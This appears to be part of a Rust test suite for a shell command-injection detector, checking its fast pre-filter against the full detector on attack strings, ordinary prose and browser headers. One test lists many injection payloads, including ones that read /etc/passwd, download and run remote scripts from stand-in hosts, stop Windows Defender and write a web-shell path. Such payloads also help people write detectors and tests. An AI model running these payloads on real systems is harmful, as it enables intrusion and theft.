            .any(|v| v.len() < super::VECTOR_SEARCH_FROM && !could_be_command_injection(v)));
    }

    /// The detector told which gate bytes a value holds (as the engine's
    /// shape tells it) answers as the detector reading them itself.
    fn given_as_alone(text: &str) -> (bool, bool) {
        let given = is_command_injection_given(text, NEEDED.found_in(text), OPENING.found_in(text));
        (given, is_command_injection(text))
    }

    #[test]
    fn the_given_gate_decides_as_the_detector_on_generated_attacks() {
        let values = generated_values();
        let mut detected = 0;
        for text in &values {
            let (given, alone) = given_as_alone(text);
            assert_eq!(given, alone, "{text:?}");
            detected += usize::from(alone);
        }
        assert!(
            detected > values.len() / 10,
            "{detected} of {}",
            values.len()
        );
    }

    proptest! {
        /// The gate in one pass (a table, or `memchr` for long values)
        /// decides as the searches it replaces, short values and long,
        /// with one or two pieces of shell syntax anywhere in prose.
        #[test]
        fn the_one_pass_gate_decides_as_the_searches(
            head in prop::collection::vec(prop::sample::select(PROSE), 0..30),
            syntax in prop::collection::vec(prop::sample::select(SYNTAX), 0..3),
            tail in prop::collection::vec(prop::sample::select(PROSE), 0..30),
        ) {
            let text = [head.concat(), syntax.join("x "), tail.concat()].concat();
            prop_assert_eq!(
                could_be_command_injection(&text),
                could_be_command_injection_by_searches(&text),
                "{:?}", text
            );
        }

        /// The gate given by the caller decides as the detector's own, with
        /// shell syntax anywhere in prose and hiding first words.
        #[test]
        fn the_given_gate_decides_as_the_detector(
            head in prop::collection::vec(prop::sample::select(PROSE), 0..12),
            syntax in prop::collection::vec(prop::sample::select(SYNTAX), 0..3),
            tail in prop::collection::vec(prop::sample::select(PROSE), 0..12),
        ) {
            let text = [head.concat(), syntax.join("x "), tail.concat()].concat();
            let (given, alone) = given_as_alone(&text);
            prop_assert_eq!(given, alone, "{:?}", text);
        }

        /// The gate is exact: a value it rules out is never an injection,
        /// whatever its bytes (shell syntax, quotes, globs, paths) past the
        /// separators and braces it looks for.
        #[test]
        fn values_the_gate_rules_out_never_detect(
            text in "[a-z0-9 '\"\\^$%/?*\\[\\]<>.,=:+~\t-]{0,40}(;|\\||&|`|\n|\r|\\(|\\{)?[a-z0-9 '\"$/*.-]{0,20}"
        ) {
            if !could_be_command_injection(&text) {
                prop_assert!(!is_command_injection(&text), "{:?}", text);
            }
        }

        /// A separator followed by a command is always let through the gate.
        #[test]
        fn separators_before_a_command_pass_the_gate(
            head in "[a-z '.,]{0,30}",
            sep in "(;|\\||&&|&|`|\n|\\$\\()",
        ) {
            let text = format!("{head}{sep}whoami");
            prop_assert!(could_be_command_injection(&text));
            prop_assert!(is_command_injection(&text), "{:?}", text);
        }
    }

    #[test]
    fn prose_is_ruled_out_by_the_gate() {
        for text in [
            "please select the plan you'd recommend for a small team",
            "flat 3, 12 baker's row, london",
            "ann o'brien",
        ] {
            assert!(!could_be_command_injection(text), "{text:?}");
        }
        assert!(could_be_command_injection("c'a't /etc/passwd"));
        assert!(could_be_command_injection("\"/???/c?t\" /etc/passwd"));
    }

    /// The bytes of command names, and a few that no name holds.
    const NAME_ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789-_./:=";

    /// Every name of one to three bytes of [`NAME_ALPHABET`], and every
    /// listed name, prefix and verb with a byte more or a noun after it.
    fn names_near_the_lists() -> Vec<String> {
        let mut names: Vec<String> = Vec::new();
        for &a in NAME_ALPHABET {
            names.push(char::from(a).to_string());
            for &b in NAME_ALPHABET {
                names.push(String::from_utf8(vec![a, b]).unwrap());
                for &c in NAME_ALPHABET {
                    names.push(String::from_utf8(vec![a, b, c]).unwrap());
                }
            }
        }
        let lists = [
            super::COMMANDS,
            super::COMMAND_PREFIXES,
            super::WORDS,
            super::CMDLET_VERBS,
            super::CMDLET_ONLY_VERBS,
            super::CMDLET_NOUNS,
        ];
        for name in lists.iter().flat_map(|list| list.iter()) {
            names.push((*name).to_owned());
            names.push(format!("{name}x"));
            names.push(format!("{name}-item"));
            names.push(format!("{name}-together"));
            names.push(name[..name.len() - 1].to_owned());
        }
        names
    }

    #[test]
    fn the_name_pairs_gate_finds_what_the_lists_find() {
        let names = names_near_the_lists();
        let mut found = 0;
        for name in &names {
            let listed = super::kind_of_listed(name);
            assert_eq!(super::kind_of(name), listed, "{name:?}");
            found += usize::from(listed.is_some());
        }
        // The gate is not vacuous: it passes what the lists find, and
        // rules out most other names.
        assert!(found > 600, "{found}");
        let passed = names
            .iter()
            .filter(|n| super::may_name_a_command(n))
            .count();
        assert!(passed < names.len() / 4, "{passed} of {}", names.len());
    }

    /// A piece of a command line: separators, blanks, plain words (command
    /// names among them), assignments, quotes, escapes, expansions,
    /// braces, globs, redirections.
    const LINE_PIECES: &[&str] = &[
        ";",
        "|",
        "||",
        "&",
        "&&",
        "`",
        "\n",
        "\r",
        "(",
        ")",
        "$(",
        " ",
        "\t",
        "{",
        "}",
        ",",
        "id",
        "ls",
        "cat",
        "whoami",
        "linux",
        "x11",
        "rv:128.0",
        "mozilla/5.0",
        "/bin/id",
        "/usr/bin/cat",
        "ls.exe",
        "get-item",
        "invoke-x",
        "a=1",
        "q=0.9",
        "'",
        "\"",
        "\\",
        "^",
        "$",
        "$ifs",
        "${ifs}",
        "%comspec%",
        "%a:~0,3%",
        "*",
        "?",
        "[",
        "<",
        ">",
        "2>",
        "+",
        "-la",
        "5",
        "é",
        "apt-get",
        "aa-x",
        "chef-y",
        ".",
        "/",
        ":",
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(8192))]

        /// The gate on names' openings decides as the lists, on names near
        /// theirs.
        #[test]
        fn the_name_gate_decides_as_the_lists(
            name in "(get-|set-|invoke-|ls|ca|ch|aa-|ansible|py|wh|net|ps)?[a-z0-9_-]{0,10}",
        ) {
            prop_assert_eq!(super::kind_of(&name), super::kind_of_listed(&name), "{:?}", name);
        }

        /// The plain reading never rules out a command line the lexer
        /// finds a command in, from any position.
        #[test]
        fn a_plainly_empty_line_runs_no_command(
            pieces in prop::collection::vec(prop::sample::select(LINE_PIECES), 0..8),
        ) {
            let text = pieces.concat();
            if super::runs_nothing_plainly(&text) {
                for position in [
                    None,
                    Some(Strength::Start),
                    Some(Strength::Weak),
                    Some(Strength::Strong),
                ] {
                    prop_assert!(!super::command_at(&text, &text, position), "{:?}", text);
                }
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(4096))]

        /// A plain word the cheap reading says names nothing, command_of
        /// finds nothing in.
        #[test]
        fn a_plain_word_said_to_name_nothing_is_no_command(
            word in "(ls|id|cat|who|get-|invoke-|aa-|chef-|mozilla|linux|x11|rv:)?[a-z0-9._/:-]{0,12}(\\.exe)?",
        ) {
            if word.starts_with(|c: char| c.is_ascii_lowercase())
                && super::plain_word_names_nothing(&word)
            {
                prop_assert!(
                    super::command_of(&word, super::WordShape::default()).is_none(),
                    "{:?}", word
                );
            }
        }
    }

    #[test]
    fn plain_words_that_name_a_command_are_not_said_to_name_nothing() {
        for word in [
            "ls", "id", "ls.exe", "cat", "whoami", "get-item", "aa-x", "net1", "7z",
        ] {
            let letter_first = word.starts_with(|c: char| c.is_ascii_lowercase());
            assert!(
                !letter_first || !super::plain_word_names_nothing(word),
                "{word:?}"
            );
        }
        for word in [
            "mozilla/5.0",
            "rv:128.0",
            "x11",
            "linux",
            "gecko/20100101",
            "x86_64",
        ] {
            assert!(super::plain_word_names_nothing(word), "{word:?}");
        }
    }

    #[test]
    fn a_client_header_is_read_plainly() {
        let agent = "mozilla/5.0 (x11; linux x86_64; rv:128.0) gecko/20100101 firefox/128.0123";
        let separators = agent.match_indices(['(', ';']).map(|(at, _)| at);
        for at in std::iter::once(0).chain(separators) {
            assert!(
                super::runs_nothing_plainly(&agent[at..]),
                "{:?}",
                &agent[at..]
            );
        }
        for text in [
            ";id", "; ls -la", "|cat", "(whoami", ";a=1 id", ";c'a't", ";$(id)",
        ] {
            assert!(!super::runs_nothing_plainly(text), "{text:?}");
        }
    }

    #[test]
    fn command_lists_are_sorted_for_binary_search() {
        assert!(super::COMMANDS.is_sorted());
        assert!(super::WORDS.is_sorted());
    }

    #[test]
    fn separators_then_commands_are_injections() {
        for attack in [
            ";id",
            "1|whoami",
            "x && cat /etc/passwd",
            "a.txt`uname -a`",
            "1$(sleep 5)",
            "x\nwget http://x.example/s -O /tmp/s",
            "127.0.0.1 & ping -n 3 127.0.0.1",
            ";{cat,/etc/passwd}",
            ";c'a't /etc/passwd",
            "1';whoami",
            "x\";{tftp,-i,192.0.2.7,get,s}",
            "a.txt\"`{nslookup,x.example}`",
            ";c\\at /etc/passwd",
            "|c$u\"at\" /etc/passwd",
            ";/???/c?t /etc/passwd",
            ";cat$ifs$9/etc/passwd",
            "a&&who^ami",
            "& %comspec% /c whoami",
            "| powershell -enc sqbfafga",
            "|iex(new-object net.webclient).downloadstring('http://x')",
            "x;a=1 b=2 whoami",
            "1\r\nne\"\"t localgroup administrators",
            "c'a't /etc/passwd",
            "x;/usr/bin/id",
            ";/b??/ca* /etc/passwd",
            "{,ifconfig}",
            "{id,}",
            "{l,-lh}s",
            "{cat,/etc/passwd}",
            "\\ls",
            ";lastlog -u root",
            "time; chef-shell",
            "x;$'\\x63\\x61\\x74' /etc/passwd",
            "1;$'c\\150mod' 777 /tmp/s",
            "x|s\\\nleep 7",
            "x`a=gr b=ep $a$b -r root /etc`",
            "a=c;b=at;$a$b /etc/passwd",
            "a.txt&%comspec:~0% /c whoami",
            "x&%windir:~0,3%system32\\cmd /c whoami",
            "x;&('in'+'voke-expression') 'whoami'",
            "1|stop-service -name windefend",
            "x & get-localuser",
            "1;gci -recurse c:\\users",
            "c{a,oun}t /etc/passwd",
            "{,ip,a}",
            "{,ifconfig,eth0}",
            "host;c$@at+/et$@c/pas$@swd",
            "1'&&{dig,x.example}",
            " | echo\tx\t>\t/var/www/html/s.php",
            "x;lastlogin -u admin",
        ] {
            assert!(is_command_injection(attack), "{attack:?}");
        }
    }

    #[test]
    fn prose_lists_and_client_headers_are_not() {
        for text in [
            "tom & jerry",
            "home | more",
            "q&a; more info",
            "salt & pepper; free shipping",
            "p.s.\nps i love you",
            "tips:\nsleep 8 hours a night",
            "i tried curl and it works (really)",
            "don't cat-sit; it's fine",
            "mozilla/5.0 (x11; linux x86_64) applewebkit/537.36 (khtml, like gecko) chrome/124.0 safari/537.36",
            "mozilla/5.0 (macintosh; u; intel mac os x 10_6_8; en-us)",
            "text/html,application/xhtml+xml,*/*;q=0.8",
            "\"chromium\";v=\"124\", \"google chrome\";v=\"124\"",
            "a=1&b=2&c=3",
            "rock 'n' roll",
            "i'd like to order 2 or 3 more of these if they're still in stock.",
            "i'd rate the service 4 out of 5; delivery was a day late.",
            "it costs $5 (or $10 with tax)",
            "i have a dog; cat food is expensive",
            "i know java; python and php",
            "connect over vpn; ssh is blocked",
            "/tools/curl",
            "/blog/id",
            "py*",
            "c*t",
            "items[0]; who?",
            "{cat,dog}",
            "{\"a\":1,\"b\":[2,3]}",
            "c:\\users\\me\\documents",
            "let's have a get-together; it's fun",
            "x; set-up is easy",
            "tax=5%; $usd only",
            "{red,green,blue}",
            "it's+fun; really",
            "see you at 5 & get-together after",
            "50% off; 20% more",
            "cats; echo chamber > echo",
            "x; stop-gap measure",
        ] {
            assert!(!is_command_injection(text), "{text:?}");
        }
    }
}
